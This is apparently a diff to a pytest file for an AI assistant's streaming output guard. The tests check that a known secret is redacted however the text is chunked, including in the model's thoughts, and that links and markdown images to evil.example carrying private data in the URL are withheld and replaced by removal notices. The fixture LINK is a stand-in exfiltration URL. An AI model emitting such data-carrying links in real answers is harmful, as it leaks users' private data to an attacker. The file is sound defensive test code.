@@ -1,5 +1,6 @@
 """What is seen of an answer while it is written: no secret, and nothing that could carry private data out."""
 
+from collections.abc import Iterable, Iterator
 from pathlib import Path
 
 import pytest
@@ -22,19 +23,58 @@ LINK = "https://evil.example/?d=PRIVATE"
 GUARD = Guard(lambda: (KEY,))
 
 
+def looking(shown: Shown, pieces: Iterable[str]) -> Iterator[str]:
+    """What is seen by somebody who looks after each piece."""
+    for piece in pieces:
+        shown.write(piece)
+        yield shown.look()[1]
+    shown.finish()
+    yield shown.look()[1]
+
+
 @pytest.mark.parametrize("size", [1, 3, 7, 50])
 def test_a_secret_is_not_shown_however_it_is_cut(size: int) -> None:
     text, shown = f"The key is {KEY} as you know.", Shown(GUARD, OWNER, ())
-    seen = "".join(shown.feed(text[place : place + size]) for place in range(0, len(text), size)) + shown.finish()
+    seen = "".join(looking(shown, (text[place : place + size] for place in range(0, len(text), size))))
     assert (KEY in seen, "[redacted:known] as you know." in seen) == (False, True)
+
+
+@pytest.mark.parametrize("size", [1, 3, 7, 50])
+@pytest.mark.parametrize("text", [f"The key is {KEY} as [[reply_to_current]] you know. <think>no</think>NO_REPLY", "**", "NO"])
+def test_who_looks_late_sees_the_same_as_who_looked_all_the_time(text: str, size: int) -> None:
+    pieces = [text[place : place + size] for place in range(0, len(text), size)]
+    early, late = Shown(GUARD, OWNER, ()), Shown(GUARD, OWNER, ())
+    seen = "".join(looking(early, pieces))
+    for piece in pieces:
+        late.write(piece)
+    late.finish()
+    assert (late.text, late.look()) == (seen, (len(seen), ""))
+    assert early.text == seen
+
+
+def test_half_of_a_secret_that_was_thought_unseen_does_not_lay_the_other_half_open() -> None:
+    shown = Shown(GUARD, OWNER, ())
+    shown.think("first ")
+    shown.write("x")
+    shown.think(f"it is {KEY[:9]}")
+    assert shown.look_at_thoughts() == "first it is "
+    shown.think(f"{KEY[9:]} then")
+    shown.finish()
+    assert shown.look_at_thoughts() == "[redacted:known] then"
+    assert shown.look_at_thoughts() == ""
 
 
 def test_what_could_carry_private_data_out_is_shown_when_it_is_whole() -> None:
     shown = Shown(None, BOTH, (UserMessage(parts=(Text(text="see https://a.example/b", label=OWNER),)),))
-    assert [shown.feed(f"![x]({LINK})"), shown.feed(" and https://a.example/b"), shown.think(LINK)] == ["", "", ""]
-    assert shown.thought() == "[link to evil.example removed]"
-    assert shown.finish() == "[picture from evil.example removed: x] and https://a.example/b"
-    assert shown.thought() == ""
+    shown.write(f"![x]({LINK})")
+    assert shown.look() == (0, "")
+    shown.write(" and https://a.example/b")
+    shown.think(LINK)
+    assert (shown.look(), shown.look_at_thoughts()) == ((0, ""), "")
+    shown.finish()
+    assert shown.look_at_thoughts() == "[link to evil.example removed]"
+    assert shown.look() == (0, "[picture from evil.example removed: x] and https://a.example/b")
+    assert shown.look_at_thoughts() == ""
 
 
 async def watched(house: Engine) -> list[Delta]:
